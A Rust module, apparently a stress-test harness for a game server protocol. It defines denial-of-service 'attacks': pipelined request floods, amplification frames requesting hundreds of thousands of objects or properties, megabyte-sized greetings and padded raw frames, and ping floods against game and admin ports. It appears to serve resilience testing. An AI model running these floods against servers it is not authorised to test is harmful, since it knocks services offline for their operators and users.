//! Requests that cost more to answer than to ask.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};

use tokio::task::JoinSet;
use tokio::time::timeout_at;
use tp_frames::{Packet, game};

use super::{Attack, Outcome, attack};
use crate::wire::{Answers, Target, raw};

pub(crate) fn all() -> Vec<Attack> {
    vec![
        attack!(
            "pipeline-objects",
            "16 connections ask for 10,000 objects at once, over and over",
            Game,
            pipeline_objects
        ),
        attack!(
            "pipeline-lists",
            "16 connections ask for lists of ids, 1,000 at once",
            Game,
            pipeline_lists
        ),
        attack!(
            "million-lists",
            "100 connections hold a list of a million ids each",
            Million,
            held_lists
        ),
        attack!(
            "million-list-keys",
            "100 connections ask for such lists over and over",
            Million,
            pipeline_lists
        ),
        attack!(
            "amplify-ids",
            "a frame that asks for 260,000 things",
            Game,
            amplify_ids
        ),
        attack!(
            "amplify-lists",
            "frames of 120,000 entries that decode to more",
            Game,
            amplify_lists
        ),
        attack!(
            "amplify-greeting",
            "1 MB of a client's name, 256 times",
            Game,
            greetings
        ),
        attack!("padded-frames", "1 MiB frames with padding", Game, padded),
        attack!(
            "small-frames",
            "Pings as fast as can be, answers read",
            Game,
            pings
        ),
        attack!(
            "admin-pings",
            "the same to administrators' port",
            Admin,
            pings
        ),
    ]
}

/// The same request on so many connections, so many at once, until the time is over.
async fn flood<P: Packet + Clone + Send + Sync + 'static>(
    target: &Arc<Target>,
    connections: usize,
    depth: usize,
    request: P,
    guest: bool,
) -> Outcome {
    let mut flooding = JoinSet::new();
    for _ in 0..connections {
        let (target, request) = (Arc::clone(target), request.clone());
        flooding.spawn(async move {
            let opened = match guest {
                true => target.logged_in().await,
                false => target.greeted().await,
            };
            match opened {
                Ok(mut wire) => {
                    let asking = wire.ask_all(std::iter::repeat(request), depth);
                    asking.await
                }
                Err(error) => Answers {
                    cut: Some(error),
                    ..Answers::default()
                },
            }
        });
    }
    let mut all = Answers::default();
    while let Ok(Some(answers)) = timeout_at(target.until, flooding.join_next()).await {
        let answers = answers.unwrap();
        all.well += answers.well;
        all.refused += answers.refused;
        all.why = answers.why;
        all.cut = answers.cut.or(all.cut);
    }
    match flooding.len() {
        0 => all.to_string(),
        left => format!("{all}, {left} still at it"),
    }
    .into()
}

async fn pipeline_objects(target: Arc<Target>) -> Outcome {
    let ids = (0..10_000).map(|id| id % 40).collect();
    flood(&target, 16, 8, game::GetObjectsByID { ids }, true).await
}

fn list() -> game::GetObjectIDs {
    game::GetObjectIDs {
        key: None.into(),
        start: 0,
        amount: 1.into(),
        from: None.into(),
    }
}

async fn pipeline_lists(target: Arc<Target>) -> Outcome {
    flood(&target, 16, 1_000, list(), true).await
}

/// Each asks for one id of the list, and keeps the rest of it for later.
async fn held_lists(target: Arc<Target>) -> Outcome {
    let mut asking = JoinSet::new();
    let held = Arc::new(AtomicU64::new(0));
    for _ in 0..target.scaled(100, 40) {
        let (target, held) = (Arc::clone(&target), Arc::clone(&held));
        asking.spawn(async move {
            let mut wire = target.logged_in().await?;
            wire.ask(&list()).await?;
            held.fetch_add(1, Relaxed);
            wire.drain().await
        });
    }
    let _ = timeout_at(target.until, asking.join_all()).await;
    format!("{} held", held.load(Relaxed)).into()
}

async fn amplify_ids(target: Arc<Target>) -> Outcome {
    let ids = vec![0; 260_000];
    flood(&target, 16, 2, game::GetObjectsByID { ids }, true).await
}

async fn amplify_lists(target: Arc<Target>) -> Outcome {
    let property = game::DesignProperty {
        propertyid: 1,
        displaystring: "".into(),
    };
    let design = game::AddDesign {
        id: None.into(),
        modtime: 0,
        catlist: Vec::new(),
        name: "".into(),
        description: "".into(),
        inuse: None.into(),
        owner: None.into(),
        components: Vec::new(),
        feedback: "".into(),
        properties: vec![property; 120_000],
    };
    flood(&target, 64, 2, design, true).await
}

async fn greetings(target: Arc<Target>) -> Outcome {
    let mut held = Vec::new();
    let connect = game::Connect {
        string: "x".repeat(1_000_000).into(),
    };
    for mut wire in target.many(target.scaled(256, 128)).await {
        if matches!(
            timeout_at(target.until, wire.ask(&connect)).await,
            Ok(Ok(_))
        ) {
            held.push(wire);
        }
    }
    target.end().await;
    format!("{} greeted", held.len()).into()
}

async fn padded(target: Arc<Target>) -> Outcome {
    let Ok(mut wire) = target.logged_in().await else {
        return "not let in".into();
    };
    let padding = game::SetFilters {
        filters: vec![game::SetFiltersFilter::FILTER_PADDING],
    };
    if let Err(error) = wire.ask(&padding).await {
        return error.into();
    }
    wire.padded = true;
    // Strings of one byte, each padded to four: a design's properties.
    let mut body = vec![0xff; 12];
    let fields = [0_u32; 3].map(u32::to_be_bytes).concat();
    body.extend(fields);
    body.extend(vec![0; (1 << 20) - body.len()]);
    let mut answers = Answers::default();
    let mut sequence = 10;
    let cut = loop {
        if target.is_over() {
            break None;
        }
        sequence += 1;
        let frame = raw(game::TP04, sequence, game::AddDesign::TYPE, 1 << 20, &body);
        if let Err(error) = wire.send(&frame).await {
            break Some(error);
        }
        if let Err(error) = wire.answer(&mut answers).await {
            break Some(error);
        }
    };
    answers.cut = cut;
    answers.into()
}

async fn pings(target: Arc<Target>) -> Outcome {
    flood(&target, 64, 64, game::Ping {}, false).await
}
